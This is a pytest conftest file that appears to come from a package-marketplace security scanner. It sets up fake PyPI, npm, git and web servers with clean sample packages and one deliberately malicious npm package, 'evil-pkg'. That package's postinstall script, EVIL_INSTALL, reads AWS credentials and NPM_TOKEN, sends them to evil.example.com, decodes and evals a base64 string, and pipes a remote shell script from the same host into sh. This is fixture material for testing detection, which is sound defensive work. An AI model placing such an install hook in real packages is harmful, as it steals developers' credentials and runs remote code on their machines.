import os

import pytest

from tests.fakes.servers import FakeGit, FakeNpm, FakePyPI, FakeWeb, make_targz, make_zip


def pytest_collection_modifyitems(config, items):
    """Without a broker (the SQLite run) the real-worker test cannot run: deselect it, loudly."""
    if os.environ.get("CELERY_BROKER_URL"):
        return
    selected, deselected = [], []
    for item in items:
        (deselected if item.get_closest_marker("live_worker") else selected).append(item)
    if deselected:
        message = (f"marketplace: deselected {len(deselected)} live_worker test(s): CELERY_BROKER_URL is not set "
                   "(they run in the PostgreSQL + Redis pass of .ci/run)")
        reporter = config.pluginmanager.get_plugin("terminalreporter")
        reporter.write_line(message, yellow=True) if reporter else print(message)
        config.hook.pytest_deselected(items=deselected)
        items[:] = selected


CLEAN_MODULE = '"""Add numbers."""\n\n\ndef add(a, b):\n    return a + b\n'
CLEAN_SETUP = "from setuptools import setup\n\nsetup(name='tidy', version='1.0.0', py_modules=['tidy'])\n"

EVIL_INSTALL = (
    "const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\n"
    "const data = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');\n"
    "const token = process.env.NPM_TOKEN;\n"
    "const req = https.request({hostname: 'evil.example.com', path: '/collect', method: 'POST'});\n"
    "req.write(JSON.stringify({data, token}));\nreq.end();\n"
    "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n"
    "require('child_process').exec('curl https://evil.example.com/x.sh | sh');\n"
)


def tidy_sdist() -> bytes:
    return make_targz({"tidy.py": CLEAN_MODULE, "setup.py": CLEAN_SETUP, "PKG-INFO": "Name: tidy\nVersion: 1.0.0\n"},
                      root="tidy-1.0.0")


def tidy_wheel(version: str) -> bytes:
    return make_zip({"tidy.py": CLEAN_MODULE, f"tidy-{version}.dist-info/METADATA": f"Name: tidy\nVersion: {version}\n"})


def leftpad_tgz(version: str = "1.0.0") -> bytes:
    pkg = '{"name": "leftpad-ok", "version": "%s", "main": "index.js"}' % version
    return make_targz({"package.json": pkg, "index.js": "module.exports = (s, n) => String(s).padStart(n);\n"},
                      root="package")


def evil_tgz() -> bytes:
    pkg = '{"name": "evil-pkg", "version": "6.6.6", "scripts": {"postinstall": "node install.js"}}'
    return make_targz({"package.json": pkg, "install.js": EVIL_INSTALL}, root="package")


@pytest.fixture
def fake_pypi(settings, allow):
    projects = {
        "tidy": {"versions": {"1.0.0": {"tidy-1.0.0.tar.gz": tidy_sdist(),
                                        "tidy-1.0.0-py3-none-any.whl": tidy_wheel("1.0.0")},
                              "1.1.0": {"tidy-1.1.0-py3-none-any.whl": tidy_wheel("1.1.0")}},
                 "latest": "1.1.0", "owners": ["Tidy-Dev"]},
        "orphan": {"versions": {"0.1": {"orphan-0.1.tar.gz": make_targz({"orphan.py": "x = 1\n"},
                                                                       root="orphan-0.1")}},
                   "latest": "0.1", "owners": []},
    }
    with FakePyPI(projects) as server:
        allow(server)
        settings.PYPI_URL = server.url
        yield server


@pytest.fixture
def fake_npm(settings, allow):
    packages = {
        "leftpad-ok": {"versions": {"1.0.0": leftpad_tgz("1.0.0"), "1.2.0": leftpad_tgz("1.2.0")},
                       "latest": "1.2.0", "npm_user": "padder", "maintainers": ["padder"]},
        "evil-pkg": {"versions": {"6.6.6": evil_tgz()}, "latest": "6.6.6", "npm_user": None, "maintainers": []},
    }
    with FakeNpm(packages) as server:
        allow(server)
        settings.NPM_REGISTRY_URL = server.url
        yield server


@pytest.fixture
def fake_git(allow):
    repos = {"acme/tool": {"README.md": "# tool\n", "src/tool.py": CLEAN_MODULE}}
    with FakeGit(repos) as server:
        allow(server)
        yield server


@pytest.fixture
def web(allow):
    """A plain web server for url sources, redirects and webhook receivers."""
    with FakeWeb() as server:
        allow(server)
        yield server


@pytest.fixture
def builtin_signatures(db):
    from django.core.management import call_command

    call_command("load_signature_pack", verbosity=0)
